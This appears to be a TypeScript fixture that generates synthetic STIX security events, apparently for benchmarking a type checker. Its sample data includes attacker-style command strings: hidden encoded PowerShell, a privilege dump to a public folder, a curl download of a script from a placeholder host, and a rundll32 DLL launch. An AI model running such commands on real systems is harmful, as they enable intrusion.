import {
  bool,
  double,
  int,
  list,
  record,
  string,
  stringOf,
  type Type
} from "../packages/language/src/types/Type.ts"
import { union } from "../packages/language/src/types/Union.ts"

// Type aliases, not interfaces: only they count as JSON objects to the compiler.

type Indicator = { type: "indicator"; id: string; name: string; pattern: string; confidence?: number }
type Malware = { type: "malware"; id: string; name: string; is_family: boolean; confidence?: number }
type AttackPattern = { type: "attack-pattern"; id: string; name: string; external_id: string }

/** What was seen beside the object, as STIX cyber-observables with a score. */
export type Observable = { type: string; value: string; risk: number }

/** A detection with the STIX object that it is about. */
export type SecurityEvent = {
  id: string
  tenant: string
  severity: number
  host: string
  zone: string
  command: string
  object: Indicator | Malware | AttackPattern
  observables: Array<Observable>
}

/** The same for the checker. */
export const securityEventType: Type = record(
  {
    id: string,
    tenant: string,
    severity: int,
    host: string,
    zone: string,
    command: string,
    object: union(
      [
        record(
          { type: stringOf("indicator"), id: string, name: string, pattern: string, "confidence?": int },
          { name: "Indicator" }
        ),
        record(
          { type: stringOf("malware"), id: string, name: string, is_family: bool, "confidence?": int },
          { name: "Malware" }
        ),
        record(
          { type: stringOf("attack-pattern"), id: string, name: string, external_id: string },
          { name: "AttackPattern" }
        )
      ],
      { discriminator: "type" }
    ),
    observables: list(record({ type: string, value: string, risk: double }, { name: "Observable" }))
  },
  { name: "SecurityEvent" }
)

/**
 * Different events, the same in every run: all three kinds of object, with and without what is optional, 20
 * observables each. Copied the way JSON arrives, so that no string is still a rope.
 */
export const securityEvents = (count: number): ReadonlyArray<SecurityEvent> =>
  structuredClone(Array.from({ length: count }, (_, index) => eventAt(index)))

const eventAt = (index: number): SecurityEvent => {
  const random = randomFrom(index + 1)
  return {
    id: `event--${hex(random, 8)}-${hex(random, 12)}`,
    tenant: pick(random, ["acme", "globex", "initech", "umbrella"]),
    severity: Math.floor(random() * 100),
    host: `${pick(random, ["edge", "srv", "ws", "edge-lab"])}-${Math.floor(random() * 900) + 100}`,
    zone: pick(random, ["dmz", "guest", "office", "plant", "lab"]),
    command: pick(random, commands).replace("$", hex(random, 40)),
    object: objectOf(random),
    observables: Array.from({ length: 20 }, () => observableOf(random))
  }
}

const commands = [
  "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand $",
  "powershell -enc $",
  "C:\\Windows\\System32\\cmd.exe /c whoami /all > C:\\Users\\Public\\$.txt",
  "/usr/bin/curl -fsSL https://cdn.example.net/$.sh -o /tmp/install.sh",
  "rundll32.exe C:\\ProgramData\\$.dll,Start"
]

const objectOf = (random: () => number): SecurityEvent["object"] => {
  const name = pick(random, ["QakBot", "Cobalt Strike", "Emotet C2", "AsyncRAT", "T1059 PowerShell"])
  const confidence = random() < 0.7 ? { confidence: Math.floor(random() * 100) } : {}
  const id = hex(random, 12)
  switch (Math.floor(random() * 4)) {
    case 0:
      return { type: "malware", id: `malware--${id}`, name, is_family: random() < 0.5, ...confidence }
    case 1:
      return { type: "attack-pattern", id: `attack-pattern--${id}`, name, external_id: "T1059.001" }
    default:
      return {
        type: "indicator",
        id: `indicator--${id}`,
        name,
        pattern: `[file:name='${id}.exe']`,
        ...confidence
      }
  }
}

const observableOf = (random: () => number): Observable => {
  const risk = Math.floor(random() * 100)
  switch (Math.floor(random() * 4)) {
    case 0:
      return { type: "domain-name", value: `c2-${hex(random, 4)}.example.net`, risk }
    case 1:
      return { type: "url", value: `https://example.org/${hex(random, 12)}`, risk }
    default:
      return { type: "ipv4-addr", value: `198.51.100.${Math.floor(random() * 32)}`, risk }
  }
}

const pick = <A>(random: () => number, values: ReadonlyArray<A>): A => {
  const value = values[Math.floor(random() * values.length)]
  if (value === undefined) throw new Error("nothing to pick from")
  return value
}

const hex = (random: () => number, length: number): string =>
  Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join("")

/** Mulberry32: small, and good in all its bits. */
const randomFrom = (seed: number): (() => number) => {
  let state = Math.imul(seed, 0x9e3779b9)
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}
